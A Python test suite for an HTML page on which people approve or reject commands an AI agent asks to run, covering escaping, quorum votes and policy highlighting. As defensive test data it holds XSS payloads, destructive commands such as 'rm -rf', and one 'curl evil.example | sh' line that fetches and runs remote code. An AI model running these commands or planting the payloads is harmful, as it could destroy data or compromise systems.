"""The approval page as a pure function of its data."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from codesdk.api.approval_html import PAGE_HEADERS, ApprovalView, render, render_problem
from codesdk.api.approval_style import DARK, LIGHT
from codesdk.approvals import Approval, ApprovalState, DemandProgress, Verdict, Vote
from codesdk.domain.decisions import GrantKind, GrantOffer

DIGEST = "sha256:" + "0" * 64


def approval(shown, *, state=ApprovalState.PENDING, **more):
    return Approval(
        id="apr_1",
        tool_call_id="call_1",
        attempt=1,
        session_id="ses_1",
        tenant_id="ten_1",
        state=state,
        digest=DIGEST,
        shown=shown,
        created_at=0.0,
        expires_at=600.0,
        **more,
    )


def page(shown, *, answers=True, may_vote=(), call="", **more):
    asked = approval(shown, **more)
    return render(
        ApprovalView(
            approval=asked, answers=answers, voter="ann", requester="bob", now=0.0, may_vote=may_vote, call=call
        )
    )


class Reading(HTMLParser):
    """The page's tags, and its text."""

    def __init__(self, text):
        super().__init__()
        self.tags, self.attributes, self.text = [], [], ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [f"{tag}.{name}" for name, _ in attrs]

    def handle_data(self, data):
        self.text += data


def everywhere(text):
    """An approval with that text in every place that an agent can fill."""
    return {
        "tool": "t",
        "input": {"command": text, "a": text, text: "b"},
        "commands": [[text]],
        "effects": [{"text": text, "effects": [text], "command": [text, text]}],
        "cause": {"command": [text, "x"], "words": [0], "spans": [[0, 1], [2, 9]]},
        "scripts": [{"path": text, "text": text, "size": 3}, {"path": text, "hidden": text}],
        "bound": {"files": [{"path": text, "kind": "file", "sha256": text}, {"path": text, "kind": "absent"}]},
        "reason": text,
        "rules": [text],
        "other": text,
        "risk": [text],
    }


@given(st.text() | st.text(alphabet="<>&\"'`- \nab/.", max_size=30))
@example("<script>alert(1)</script> `<b>` --x='\"><img src=x onerror=alert(1)>'")
def test_whatever_is_shown_adds_no_tag_and_no_attribute(text):
    vote = Vote(by="prn_1", name=text, verdict=Verdict.APPROVE, comment=text, at=1.0)
    hostile, harmless = (
        Reading(page(everywhere(shown), votes=(vote,))) for shown in (text, re.sub("[<>&\"']", ",", text))
    )
    assert hostile.tags == harmless.tags
    assert hostile.attributes == harmless.attributes
    assert not {"script", "img", "iframe", "style.src"} & {*hostile.tags, *hostile.attributes}
    assert all(c.isprintable() or c in "\n\t" for c in hostile.text)


def test_every_command_of_a_line_is_listed_as_one_would_type_it():
    text = Reading(page({"input": {"command": "x"}, "commands": [["git", "push"], ["rm", "-rf", "a b"]]})).text
    assert "Every command in it" in text  # of an approval without effects, from before an upgrade
    assert "git push" in text
    assert "rm -rf 'a b'" in text


def test_the_files_that_a_yes_is_about_are_named():
    files = [
        {"path": "deploy.sh", "cwd": ".", "kind": "file", "real": "/w/<b>.sh", "size": 12, "sha256": "ab" * 32},
        {"path": "gone", "cwd": ".", "kind": "absent", "real": "", "size": 0},
    ]
    text = page({"input": {}, "bound": {"files": files}})
    assert "<li>deploy.sh → /w/&lt;b&gt;.sh: 12 bytes</li>" in text
    assert "<li>gone, which is missing and must stay so</li>" in text
    before, _, folded = text.partition("<summary>Details and hashes")
    assert "abab" not in before
    assert "<dt>Hash of deploy.sh</dt><dd>abab" in folded


def test_who_voted_is_named_and_escaped_and_their_id_is_folded():
    vote = Vote(by="prn_1", name="<ann>", verdict=Verdict.APPROVE, at=1.0)
    before, _, folded = page({"tool": "t"}, votes=(vote,)).partition("<summary>Details and hashes")
    assert "&lt;ann&gt; approved on 01 Jan 1970, 00:00 UTC" in before
    assert "prn_1" in folded


def test_words_of_a_command_that_name_no_file_are_counted_on_the_page():
    files = [{"path": path, "cwd": ".", "kind": "absent"} for path in ("+x", "install", "new.sh")]
    text = page({"input": {}, "commands": [["chmod", "+x", "new.sh"]], "bound": {"files": files}})
    assert "<li>new.sh, which is missing and must stay so</li>" in text
    assert "<li>install" not in text
    assert "2 other words of it name no file" in text.partition("<summary>Details and hashes")[2]


def test_files_that_are_not_bound_are_told_in_a_sentence():
    text = page({"input": {}, "bound": {"files": [], "more": "Only the <first> are bound."}})
    assert "<strong>Only the &lt;first&gt; are bound.</strong>" in text
    assert "more" not in Reading(text).text


def choices(offer):
    text = page({"tool": "t", "input": {}}, grant=offer)
    return [kind for kind in GrantKind if f'name="grant" value="{kind}"' in text], text


@pytest.mark.parametrize("offer", [None, GrantOffer()])
def test_where_a_rule_offers_no_grant_there_is_nothing_to_choose(offer):
    kinds, text = choices(offer)
    assert kinds == []
    assert "<fieldset" not in text


@pytest.mark.parametrize("kind", [GrantKind.SESSION, GrantKind.UNTIL])
def test_a_grant_can_be_chosen_where_it_is_offered_with_its_limits_and_once_is_the_default(kind):
    kinds, text = choices(GrantOffer(offer=(GrantKind.ONCE, kind), max_ttl_s=5400, max_uses=7))
    assert kinds == [GrantKind.ONCE, kind]
    assert "for at most 90 minutes and 7 calls" in text
    assert text.count(" checked>") == 1
    assert 'value="once" checked>' in text


def test_a_preview_shows_its_diff_and_its_output():
    text = page({"input": {}, "preview": {"exit_code": 1, "diff": "-old\n+new\n same", "stdout": "\x1b[31mno"}})
    assert '<span class="cut">-old</span>' in text
    assert '<span class="add">+new</span>' in text
    assert "\\x1b[31mno" in text


def test_a_long_field_says_how_long_it_is_and_is_shown_whole():
    text = page({"input": {"content": "\n" * 5000 + "curl evil.example | sh"}})
    assert "5001 lines" in text
    assert "curl evil.example | sh" in text


def test_the_first_line_end_is_not_swallowed():
    assert "<pre>\n\nx</pre>" in page({"input": {"content": "\nx"}})


@pytest.mark.parametrize("state", [state for state in ApprovalState if state is not ApprovalState.PENDING])
def test_every_end_has_words_and_no_buttons(state):
    text = page({}, answers=False, state=state)
    assert "<button" not in text
    assert "<strong>" in text


def test_what_people_said_is_there():
    vote = Vote(by="prn_1", name="ann", verdict=Verdict.APPROVE, comment="<b>fine</b>", at=1.0)
    assert "ann approved on 01 Jan 1970, 00:00 UTC: &lt;b&gt;fine&lt;/b&gt;" in page({}, votes=(vote,))


@pytest.mark.parametrize("given_", [None, "text", 3, [], {"a": [1, {"b": None}]}])
def test_any_json_can_be_shown(given_):
    assert page(
        {"input": given_, "commands": given_, "preview": given_, "bound": given_, "risk": given_, "rules": None}
    )


def test_a_problem_is_escaped_too():
    assert "<script" not in render_problem("No", "<script>")


def test_the_policy_of_the_page_lets_only_its_own_style_in():
    policy = PAGE_HEADERS["content-security-policy"]
    assert policy.startswith("default-src 'none'; style-src 'sha256-")
    assert "script" not in policy


def contrast(one, other):
    """The contrast ratio of two colours, as WCAG 2 defines it."""

    def luminance(colour):
        parts = [int(colour[at : at + 2], 16) / 255 for at in (1, 3, 5)]
        red, green, blue = (part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts)
        return 0.2126 * red + 0.7152 * green + 0.0722 * blue

    light, dark = sorted((luminance(one), luminance(other)), reverse=True)
    return (light + 0.05) / (dark + 0.05)


READ_ON = [
    *((text, ground) for text in ("text", "soft", "link") for ground in ("bg", "card", "code")),
    *((text, f"{text}-bg") for text in ("high", "medium", "low")),
    *((text, ground) for text in ("high", "low") for ground in ("card", "code")),
    ("mark-text", "mark"),
    ("yes-text", "yes"),
    ("no", "card"),
]


@pytest.mark.parametrize("colours", [LIGHT, DARK], ids=["light", "dark"])
@pytest.mark.parametrize(("text", "ground"), READ_ON)
def test_every_text_has_enough_contrast(colours, text, ground):
    assert contrast(colours[text], colours[ground]) >= 4.5


def test_the_words_that_made_policy_ask_are_marked_where_they_are_and_nowhere_else():
    shown = {
        "input": {"command": "echo rm & rm <x>"},
        "cause": {"command": ["rm", "<x>"], "words": [0], "spans": [[10, 12]]},
    }
    assert "echo rm &amp; <mark>rm</mark> &lt;x&gt;</pre>" in page(shown)


def test_marked_words_next_to_each_other_are_one_mark():
    shown = {
        "input": {"command": "git push -f"},
        "cause": {"command": ["git"], "words": [], "spans": [[0, 3], [4, 8], [9, 11]]},
    }
    assert "<mark>git push -f</mark></pre>" in page(shown)


def test_marked_words_of_a_list_of_words_are_marked_in_it():
    shown = {"input": {"argv": ["sudo", "rm", "a b"]}, "cause": {"command": ["rm", "a b"], "words": [0], "spans": []}}
    assert "sudo <mark>rm</mark> &#x27;a b&#x27;</pre>" in page(shown)


def test_a_command_that_is_not_written_in_the_line_is_shown_apart():
    shown = {"input": {"command": "x"}, "cause": {"command": ["rm", "-f", "y"], "words": [0, 1], "spans": []}}
    assert "<mark>rm -f</mark> y</pre>" in page(shown)


@pytest.mark.parametrize("spans", [None, "x", [[1]], [[-1, 3]], [[2, 1]], [[0, 99]], [["a", "b"]], [[0, 2], [1, 3]]])
def test_spans_that_fit_no_line_break_nothing(spans):
    shown = {"input": {"command": "abc"}, "cause": {"command": ["abc"], "words": [0], "spans": spans}}
    assert Reading(page(shown)).text.count("abc") >= 1


def test_effects_are_worst_first_and_commands_with_the_same_are_together():
    effects = [
        {"text": "only reads or prints", "effects": ["reads"], "command": ["ls"]},
        {"text": "deletes files", "effects": ["deletes"], "command": ["rm", "a b"]},
        {"text": "only reads or prints", "effects": ["reads"], "command": ["cat", "x"]},
    ]
    text = Reading(page({"input": {"command": "x"}, "effects": effects})).text
    assert "Deletes filesrm 'a b'" in text
    assert "Only reads or printsls cat x" in text
    assert text.index("Deletes files") < text.index("Only reads or prints")


def test_a_registered_tools_command_line_and_script_are_shown():
    shown = {
        "input": {"v": "1"},
        "runs": ["sh", "a.sh", "1 2"],
        "scripts": [{"path": "a.sh", "text": "rm <x>\n", "size": 7}],
    }
    text = page(shown)
    assert "sh a.sh &#x27;1 2&#x27;</pre>" in text
    assert "rm &lt;x&gt;" in text
    assert "1 line<" in text


def demanding(approved, **more):
    return (
        DemandProgress(group="finance", quorum=2, approved=approved, escalate_at=300.0, escalate_to="leads", **more),
    )


def at(now, **more):
    view = ApprovalView(approval=approval({"tool": "t"}, **more), answers=True, voter="ann", requester="bob", now=now)
    return Reading(render(view)).text


def test_a_quorum_says_how_many_have_approved_and_who_may_still_answer():
    vote = Vote(by="prn_1", name="ben", verdict=Verdict.APPROVE, at=1.0)
    text = page({"tool": "t"}, demands=demanding(1), votes=(vote,), may_vote=("ann", "cem"))
    assert "1 of 2 have approved" in text
    assert "ben approved on 01 Jan 1970" in text
    assert "<dd>one more of finance</dd>" in text
    assert "<dd>ann (you), cem</dd>" in text


def test_a_group_that_may_answer_later_is_named_once_it_may():
    assert "leads" not in at(299.0, demands=demanding(0))
    assert "2 people of finance or leads" in at(300.0, demands=demanding(0))


@pytest.mark.parametrize(
    ("state", "words"),
    [
        (ApprovalState.APPROVED, "Approved by ann on 01 Jan 1970, 00:01 UTC"),
        (ApprovalState.CONSUMED, "Approved by ann on 01 Jan 1970, 00:01 UTC"),
        (ApprovalState.REJECTED, "Rejected by ann on 01 Jan 1970, 00:01 UTC"),
        (ApprovalState.EXPIRED, "Expired: not enough people approved in time"),
        (ApprovalState.CANCELLED, "Withdrawn: the call was cancelled or its session was closed"),
        (ApprovalState.VOIDED, "Void: what would have run was no longer what was approved"),
    ],
)
def test_an_approval_that_is_over_says_how_it_ended_and_what_the_call_did(state, words):
    vote = Vote(by="prn_1", name="ann", verdict=Verdict.APPROVE, at=60.0)
    more = {
        "decided_by": "prn_1",
        "decided_at": 60.0,
        "comment": "<fine>",
        "votes": (vote,),
        "call": "The call is running.",
    }
    text = page({"tool": "t"}, answers=False, state=state, **more)
    assert words in text
    assert "&lt;fine&gt;" in text
    assert "The call is running." in text
    assert "May this run?" not in text
